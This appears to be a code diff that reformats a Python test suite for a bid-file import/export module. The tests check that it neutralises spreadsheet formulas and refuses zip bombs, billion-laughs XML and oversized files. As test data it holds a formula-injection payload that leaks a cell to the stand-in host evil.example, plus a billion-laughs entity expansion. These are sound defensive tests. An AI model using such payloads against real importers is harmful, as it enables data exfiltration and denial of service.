@@ -24,10 +24,11 @@ from clusterbid.core.interchange import (
     export_table_csv,
     export_table_xlsx,
     import_bids,
+    limits,
     write_template_csv,
     write_template_xlsx,
+    xlsx_guard,
 )
-from clusterbid.core.interchange import limits, xlsx_guard
 
 HOSTILE_TEXT = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -50,7 +51,10 @@ def _sheet_xml(path) -> str:
 
 
 def test_template_export_neutralises_formulas_and_import_restores_the_text(tmp_path, bid_factory):
-    hostile = [bid_factory(f"b{i}", text, quote__reference="+44 20 7946 0000") for i, text in enumerate(HOSTILE_TEXT)]
+    hostile = [
+        bid_factory(f"b{i}", text, quote__reference="+44 20 7946 0000")
+        for i, text in enumerate(HOSTILE_TEXT)
+    ]
     path = write_template_xlsx(tmp_path / "bids.xlsx", hostile)
     assert "<f>" not in _sheet_xml(path)  # no cell is stored as a formula
     workbook = openpyxl.load_workbook(path)
@@ -85,7 +89,9 @@ def test_comparison_export_neutralises_text_but_keeps_numbers(tmp_path):
     csv_path = export_table_csv(tmp_path / "cmp.csv", rows, "=Round 1")
     lines = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")))
     assert lines[0] == ["'=Round 1"]
-    assert lines[3:] == [["'" + text, "-5", "-1.25"] for text in HOSTILE_TEXT] + [["plain", "3", "2.5"]]
+    assert lines[3:] == [["'" + text, "-5", "-1.25"] for text in HOSTILE_TEXT] + [
+        ["plain", "3", "2.5"]
+    ]
 
 
 def _bomb(path, member_size: int) -> None:
@@ -121,7 +127,10 @@ def test_xlsx_zip_bomb_is_refused_fast_and_without_memory_growth(tmp_path, size_
 
 BILLION_LAUGHS = (
     '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
-    + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
+    + "".join(
+        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
+        for i in range(1, 10)
+    )
     + ']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
     '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
 )
@@ -193,7 +202,9 @@ def test_csv_with_a_million_rows_is_refused_quickly(tmp_path):
     path = tmp_path / "huge.csv"
     path.write_text("id,quote.provider\n" + "x,y\n" * 1_000_000, encoding="utf-8")
     cpu_before = time.process_time()  # CPU seconds: the same on a busy machine
-    with pytest.raises(FileTooLargeError, match=f"huge.csv: more than {limits.MAX_BIDS:,} bid rows"):
+    with pytest.raises(
+        FileTooLargeError, match=f"huge.csv: more than {limits.MAX_BIDS:,} bid rows"
+    ):
         import_bids(path)
     assert time.process_time() - cpu_before < 5.0
 
@@ -209,9 +220,14 @@ def test_csv_cell_too_long_is_refused(tmp_path, size):
 def test_xlsx_cell_of_a_megabyte_is_refused(tmp_path, bids, positions_of):
     path = write_template_xlsx(tmp_path / "long.xlsx", bids)
     workbook = openpyxl.load_workbook(path)
-    workbook["Bids"].cell(row=3, column=positions_of(path)["quote.provider"], value="B" * (1024 * 1024))
+    workbook["Bids"].cell(
+        row=3, column=positions_of(path)["quote.provider"], value="B" * (1024 * 1024)
+    )
     workbook.save(path)
-    with pytest.raises(FileTooLargeError, match=r"long.xlsx: cell B3 in xl/worksheets/sheet1.xml holds over 1,000 characters"):
+    with pytest.raises(
+        FileTooLargeError,
+        match=r"long.xlsx: cell B3 in xl/worksheets/sheet1.xml holds over 1,000 characters",
+    ):
         import_bids(path)
 
 
@@ -244,17 +260,25 @@ def test_unsupported_extension_and_missing_file(tmp_path):
         import_bids(tmp_path / "absent.csv")
 
 
-def test_every_kind_of_refusal_reaches_the_officer_as_exit_2_naming_the_file(tmp_path, bids, capsys):
+def test_every_kind_of_refusal_reaches_the_officer_as_exit_2_naming_the_file(
+    tmp_path, bids, capsys
+):
     """One file of each refusal kind through `clusterbid import-bids`: exit 2 (refused input, as the
     README says), the file named, and no traceback."""
     from clusterbid.cli import main
 
     good = write_template_xlsx(tmp_path / "good.xlsx", bids)
     files = {
-        "laughs.xlsx": lambda path: _with_part(good, path, "xl/worksheets/sheet1.xml", BILLION_LAUGHS),  # unsafe
+        "laughs.xlsx": lambda path: _with_part(
+            good, path, "xl/worksheets/sheet1.xml", BILLION_LAUGHS
+        ),  # unsafe
         "noise.xlsx": lambda path: path.write_bytes(os.urandom(5_000)),  # corrupt
-        "latin1.csv": lambda path: path.write_bytes("id,quote.provider\nb1,Société\n".encode("cp1252")),  # encoding
-        "huge.csv": lambda path: path.write_text("id,quote.provider\n" + "x,y\n" * 20_000, encoding="utf-8"),  # size
+        "latin1.csv": lambda path: path.write_bytes(
+            "id,quote.provider\nb1,Société\n".encode("cp1252")
+        ),  # encoding
+        "huge.csv": lambda path: path.write_text(
+            "id,quote.provider\n" + "x,y\n" * 20_000, encoding="utf-8"
+        ),  # size
         "bids.ods": lambda path: path.write_bytes(b"PK"),  # unsupported format
     }
     for name, make in files.items():
